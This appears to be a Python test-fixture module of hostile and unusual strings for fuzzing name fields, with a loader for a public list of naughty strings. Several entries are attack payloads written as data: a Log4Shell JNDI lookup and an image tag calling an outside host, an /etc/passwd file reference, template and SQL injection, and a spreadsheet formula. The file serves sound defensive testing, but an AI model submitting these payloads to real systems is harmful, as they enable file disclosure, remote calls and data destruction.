"""What people, and people who mean harm, type into names."""

import base64
import os
from pathlib import Path

OWN = (
    '<img src="http://192.0.2.1/pixel.png"/>',
    '<para><img src="/etc/passwd" width="1" height="1"/></para>',
    "<b>Bold & Sons</b> &lt;Ltd&gt;",
    "{{7*7}} ${jndi:ldap://192.0.2.1/a} %s %n {0}",
    '=HYPERLINK("http://192.0.2.1")',
    "Robert'); DROP TABLE client;--",
    "nul\x00 bell\x07 escape\x1b[31m",
    "right\u202eto left\u202c mark\u200f",
    "شركة النور · בית דפוס",
    "株式会社ノースライト 🍷🎉",
    "Z\u0351\u0323\u0321\u0360\u034d\u031f\u0318a\u0336\u0321\u0355\u0353lgo",
    "\ud800 lone surrogate",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "W" * 290,
    "many words " * 25,
    "line\nbreak\r\nand\ttab",
    "Ωμέγα и Восток, Łódź, İstanbul, Ñandú, Þór",
    "endobj stream ) ( \\ % /Page",
    "",
    " ",
)


def shared_strings() -> list[str]:
    """A public list of naughty strings, where a checkout has sample data beside it; else nothing."""
    checkout = Path(__file__).resolve().parents[2]
    folder = Path(os.environ.get("AGENCYDESK_SHARED", checkout.parent / "shared" / "data"))
    file = folder / "hostile" / "blns" / "blns.base64.txt"
    if not file.is_file():
        return []
    lines = file.read_text("utf-8").splitlines()
    return [
        base64.b64decode(line).decode("utf-8", "replace")
        for line in lines
        if line.isascii() and line and not line.startswith("#")
    ]
